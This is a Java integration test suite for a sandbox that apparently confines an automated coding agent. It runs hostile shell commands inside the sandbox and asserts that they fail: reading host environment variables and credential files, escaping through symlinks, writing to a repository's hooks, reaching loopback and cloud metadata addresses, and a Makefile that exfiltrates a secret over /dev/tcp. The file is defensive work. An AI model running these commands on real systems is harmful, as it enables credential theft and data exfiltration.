package dev.wakeful.autodev.sandbox;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import dev.wakeful.autodev.process.Ended;
import java.io.IOException;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import java.util.Set;
import java.util.TreeSet;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Hostile commands in a real sandbox: what they look for is not there, and what they do stays inside (DEV-4; needs rows 22 and 23). */
class RedTeamIT {

    private static final String SECRET = "s3cret-of-the-host";

    @TempDir
    Path directory;

    private Locked locked;
    private Path secret;

    @BeforeEach
    void lock() throws Exception {
        locked = new Locked(directory, Locked.WIDE);
        secret = Files.writeString(
                Files.createDirectories(directory.resolve("host")).resolve("secret"), SECRET);
    }

    @AfterEach
    void open() {
        locked.close();
    }

    /** DEV-4, row 22: no variable of the host, neither its own nor by looking at others. */
    @Test
    void theEnvironmentOfTheHostIsNowhere() {
        Ended ended = locked.run("cat /proc/*/environ | tr '\\0' '\\n' | sort -u");

        Set<String> names = new TreeSet<>();
        ended.tail().lines().filter(line -> line.contains("=")).forEach(line -> names.add(line.split("=")[0]));
        assertThat(names).contains("HOME", "TOKEN", "WAKEFUL_SWARM");
        Set<String> hosts = new TreeSet<>(System.getenv().keySet());
        hosts.removeAll(locked.place.environment().keySet());
        hosts.removeAll(Set.of("PWD", "OLDPWD", "SHLVL", "_"));
        assertThat(names).doesNotContainAnyElementsOf(hosts);
        assertThat(ended.tail()).doesNotContain("surefire");
    }

    /** DEV-4, row 22 */
    @Test
    void theFilesOfTheHostAreNotThere() {
        Ended ended = locked.run(
                "cat " + secret + "; ls /root /home /etc/shadow /etc/ssh /var /sys /boot " + directory
                        + "/host; find / -xdev -name shadow -o -name 'id_*' -o -name secret 2>/dev/null | grep -v ^/usr; cat /etc/passwd");

        assertThat(ended.tail()).doesNotContain(SECRET, "root:").contains("agent:x:1000:1000");
        assertThat(ended.tail().lines().filter(line -> line.startsWith("/"))).isEmpty();
    }

    /** DEV-4: of the host's settings only those on the list are there, and all of them take one mount beside the list of users. */
    @Test
    void settingsOfTheHostAreFewAndOneMount() {
        Ended ended = locked.run("ls /etc; grep -c ' /etc' /proc/self/mountinfo; getent hosts sandbox; id -un");

        assertThat(ended.tail().lines())
                .contains("passwd", "group", "hosts", "ssl", "2", "agent")
                .doesNotContain("shadow", "hostname", "resolv.conf", "ssh");
        assertThat(ended.tail()).contains("127.0.0.1");
    }

    /** DEV-4: what is not the place's cannot be written, not even in memory. */
    @Test
    void nothingButItsPlaceIsWritable() {
        Ended ended = locked.run(
                "for d in / /usr /etc /dev /run /proc/sys/kernel /opt; do touch $d/w 2>/dev/null && echo \"wrote $d\"; done; "
                        + "for d in . $HOME $TMPDIR /tmp /dev/shm; do touch $d/w && echo \"can $d\"; done; id -u; grep CapEff /proc/self/status");

        assertThat(ended.tail())
                .doesNotContain("wrote")
                .contains("can .", "can /tmp", "can /dev/shm", "can " + locked.place.home(), "1000")
                .contains("CapEff:\t0000000000000000");
        assertThat(directory.resolve("w/w")).doesNotExist();
        assertThat(directory.resolve("w/tree/w")).exists();
    }

    /** Item 2: the host's {@code .git} is never writable. */
    @Test
    void theBorrowedRepositoryCanBeReadAndNotWritten() throws Exception {
        Path objects = Files.createDirectories(directory.resolve("shop/.git/objects"));
        Files.writeString(objects.resolve("one"), "object");
        Path config = Files.writeString(objects.resolveSibling("config"), "[core]\n");

        Ended ended = locked.run(
                "cat " + objects + "/one; echo evil > " + objects + "/two; echo evil >> " + config + "; echo evil > "
                        + config.resolveSibling("hooks") + "; rm -f " + objects + "/one; cat " + config,
                List.of(objects),
                null,
                Duration.ofMinutes(1));

        assertThat(ended.tail()).contains("object", "Read-only file system");
        assertThat(objects).isDirectoryContaining("glob:**/one").isDirectoryNotContaining("glob:**/two");
        assertThat(config).hasContent("[core]");
        assertThat(config.resolveSibling("hooks")).doesNotExist();
    }

    /** DEV-4, row 22: no network, the host's loopback neither. */
    @Test
    void nobodyCanBeReached() throws Exception {
        try (ServerSocket host = new ServerSocket(0, 5, InetAddress.getLoopbackAddress())) {
            Ended ended = locked.run(
                    "for a in 127.0.0.1 10.0.0.1 169.254.169.254; do timeout 5 bash -c \"exec 3<>/dev/tcp/$a/"
                            + host.getLocalPort()
                            + "\" && echo reached $a; done; sed 1,2d /proc/net/dev; getent hosts example.org");

            assertThat(ended.tail()).doesNotContain("reached").containsPattern("(?m)^\\s*lo:");
            assertThat(ended.tail().lines().filter(line -> line.matches("\\s*[a-z0-9]+: *[0-9].*")))
                    .hasSize(1);
        }
    }

    /** DEV-4: symlinks and paths lead nowhere. */
    @Test
    void linksAndPathsOutOfTheTreeLeadNowhere() throws Exception {
        Files.createSymbolicLink(locked.place.directory().resolve("link"), secret.getParent());

        Ended ended = locked.run(
                "cat link/secret; echo evil > link/written; cat ../../host/secret; echo evil > ../../host/written;"
                        + " cat /proc/1/root" + secret + "; cat /proc/self/cwd/../../host/secret");

        assertThat(ended.tail()).doesNotContain(SECRET);
        assertThat(secret.getParent()).isDirectoryNotContaining("glob:**/written");
    }

    /** Row 23: a build file that wants to tell somebody finds nothing and nobody. */
    @Test
    void aMakefileThatExfiltratesFindsNothing() throws Exception {
        try (ServerSocket thief = new ServerSocket(0, 5, InetAddress.getLoopbackAddress())) {
            Files.writeString(
                    locked.place.directory().resolve("Makefile"),
                    "LOOT := $(shell cat " + secret
                            + " 2>/dev/null)\nall:\n\t@echo \"loot [$(LOOT)]\"; bash -c 'echo \"$(LOOT)\" > /dev/tcp/127.0.0.1/"
                            + thief.getLocalPort() + "' && echo told\n");

            Ended ended = locked.run("make");

            assertThat(ended.tail()).contains("loot []").doesNotContain(SECRET, "told");
        }
    }

    /** DEV-4: whoever forks twice, makes a session and forgets its environment ends with the command all the same. */
    @Test
    void aDaemonWithoutAMarkEndsWithItsCommand() throws Exception {
        Path beat = locked.place.directory().resolve("beat");

        Ended ended = locked.run(
                "setsid env -i sh -c '(while :; do echo >> " + beat
                        + "; sleep 0.02; done) & exit 0' <&- >/dev/null 2>&1 & while [ ! -s beat ]; do sleep 0.02; done; exit 7");

        assertThat(ended.exitCode()).isEqualTo(7);
        assertNobodyIsInside();
    }

    /** STOP-3: the same when the sandbox itself is killed. */
    @Test
    void everythingDiesWithTheSandbox() throws Exception {
        Process process = locked.sandbox()
                .enclose(
                        new Enclosure(locked.place, List.of(), java.util.Map.of(), null),
                        List.of(
                                "sh",
                                "-c",
                                "setsid env -i sh -c '(while :; do sleep 0.1; done) &'; echo ready; sleep 1000"))
                .start();
        assertThat(process.inputReader().readLine()).isEqualTo("ready");

        process.destroyForcibly().waitFor();

        assertNobodyIsInside();
    }

    private void assertNobodyIsInside() {
        String own = locked.place.directory().toString();
        await().atMost(Duration.ofSeconds(5))
                .untilAsserted(() -> assertThat(
                                ProcessHandle.allProcesses().filter(process -> standsIn(process.pid(), own)))
                        .isEmpty());
    }

    private static boolean standsIn(long pid, String directory) {
        try {
            return Path.of("/proc/" + pid + "/cwd").toRealPath().toString().equals(directory);
        } catch (IOException gone) {
            return false;
        }
    }

    /** Bad input of issue 4: a check that reads standard input, or wants a terminal. */
    @Test
    void nobodyAnswersAndThereIsNoTerminal() {
        Ended ended = locked.run(
                "cat; read x || echo nothing; tty; test -t 0 || echo none; (echo hi > /dev/tty) 2>&1 || echo no tty");

        assertThat(ended.exitCode()).isZero();
        assertThat(ended.tail()).contains("nothing", "not a tty", "none", "no tty");
    }

    /** Bad input of issue 4: a gigabyte of output, and output that is no text. */
    @Test
    void outputIsBoundedAndMadeHarmless() {
        Ended ended =
                locked.run("head -c 1000000000 /dev/zero | tr '\\0' x; printf '\\377\\376\\033[31mred\\n'; exit 3");

        assertThat(ended.exitCode()).isEqualTo(3);
        assertThat(ended.tail()).endsWith("\uFFFD\uFFFDred");
        assertThat(directory.resolve("logs/1.log").toFile().length()).isLessThan(9L << 20);
    }

    /** Row 23: no further namespaces, so no way to more of the kernel. */
    @Test
    void noNamespacesCanBeMadeInside() {
        assertThat(locked.run("unshare --user true && echo made; unshare --mount true && echo made")
                        .tail())
                .doesNotContain("made");
    }
}
